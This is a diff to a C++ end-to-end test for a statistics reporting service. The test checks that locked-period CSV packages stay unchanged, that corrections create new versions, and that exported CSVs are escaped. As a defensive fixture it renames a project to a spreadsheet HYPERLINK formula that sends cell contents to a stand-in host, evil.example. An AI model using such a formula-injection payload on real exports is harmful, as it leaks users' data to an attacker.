@@ -2,6 +2,7 @@
 // report, and the change feed surviving restarts of either side.
 
 #include <httplib.h>
+#include <zip.h>
 
 #include <chrono>
 #include <fstream>
@@ -18,6 +19,23 @@
 
 namespace saima::testing {
 namespace {
+
+// The bytes of one file inside a ZIP held in memory.
+std::string Unzip(const std::string& archive_bytes, const std::string& name) {
+  zip_error_t error;
+  zip_source_t* source = zip_source_buffer_create(archive_bytes.data(), archive_bytes.size(), 0, &error);
+  zip_t* archive = zip_open_from_source(source, ZIP_RDONLY, &error);
+  zip_stat_t stat;
+  std::string out;
+  if (archive != nullptr && zip_stat(archive, name.c_str(), 0, &stat) == 0) {
+    zip_file_t* file = zip_fopen(archive, name.c_str(), 0);
+    out.resize(stat.size);
+    zip_fread(file, out.data(), stat.size);
+    zip_fclose(file);
+  }
+  if (archive != nullptr) zip_close(archive);
+  return out;
+}
 
 class StatsEndToEndTest : public HttpSystemTest {};
 
@@ -87,12 +105,48 @@ TEST_F(StatsEndToEndTest, RukuByTheRightRolesThenFiguresThenTheCityReport) {
   // 25% against a time progress of 25%: 正常.
   EXPECT_EQ(report["report"]["keyProjects"]["statuses"][0]["status"], "PROGRESS_STATUS_NORMAL");
 
-  ASSERT_EQ(Post("stats", "/v1/periods/2023-03:lock", json::object()).first, 200);
+  auto [locked, lock] = Post("stats", "/v1/periods/2023-03:lock", json::object());
+  ASSERT_EQ(locked, 200) << lock.dump();
+  const std::string frozen_sha = lock["packageSha256"];
+  ASSERT_EQ(frozen_sha.size(), 64u) << lock.dump();
+  // What was reported stays the same bytes: renaming the project (to a formula, which the CSV neutralizes) and
+  // its unit after the lock changes nothing in the package.
+  auto package_bytes = [&](int version) {
+    httplib::Client http("127.0.0.1", system_->http_port());
+    auto res = http.Get(absl::StrCat("/v1/reports/provincial?period=2023-03&format=csv&version=", version).c_str(),
+                        {{"Authorization", "Bearer " + system_->token("stats")}});
+    return res && res->status == 200 ? res->body : std::string();
+  };
+  const std::string before_rename = package_bytes(1);
+  ASSERT_FALSE(before_rename.empty());
+  const json now = Get("admin", "/v1/projects/" + id).second["project"];
+  ASSERT_EQ(Send("PATCH", "admin", "/v1/projects/" + id,
+                 {{"name", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此\")"}, {"revision", now["revision"]}})
+                .first,
+            200);
+  EXPECT_EQ(package_bytes(1), before_rename) << "the locked period's package changed after a rename";
+  EXPECT_EQ(package_bytes(0), before_rename) << "no correction yet: the newest is the frozen one";
+  EXPECT_NE(Unzip(before_rename, "manifest.json").find(frozen_sha), std::string::npos)
+      << "the manifest names the SHA-256 printed at the lock";
+  EXPECT_NE(Unzip(before_rename, "206-1.csv").find("国镜药业"), std::string::npos);
+  // Locking again returns the first freeze.
+  EXPECT_EQ(Post("stats", "/v1/periods/2023-03:lock", json::object()).second["packageSha256"], frozen_sha);
+
   EXPECT_EQ(Post("unit", "/v1/monthly-reports", Report(id, "2023-03", 2'500'000, 5'500'000)).first, 409);
   auto [corrected, corrected_body] =
       Post("stats", "/v1/monthly-reports:correct",
            {{"report", Report(id, "2023-03", 2'500'000, 5'500'000)}, {"reason", "核定时补录设备款"}});
   ASSERT_EQ(corrected, 200) << corrected_body.dump();
+  // A correction is a new version of the package (with the renamed project now); version 1 stays as it was.
+  EXPECT_EQ(corrected_body["packageVersion"], 2) << corrected_body.dump();
+  EXPECT_NE(corrected_body["packageSha256"], frozen_sha);
+  EXPECT_EQ(package_bytes(1), before_rename);
+  EXPECT_NE(package_bytes(2), before_rename);
+  EXPECT_EQ(package_bytes(2), package_bytes(0));
+  // The formula reached the province as text, never as a formula.
+  const std::string renamed_csv = Unzip(package_bytes(2), "206-1.csv");
+  EXPECT_NE(renamed_csv.find("\"'=HYPERLINK("), std::string::npos) << renamed_csv;
+  EXPECT_EQ(renamed_csv.find(",=HYPERLINK"), std::string::npos) << renamed_csv;
   // The provincial package of the locked period: its forms add up to the city report.
   {
     httplib::Client http("127.0.0.1", system_->http_port());
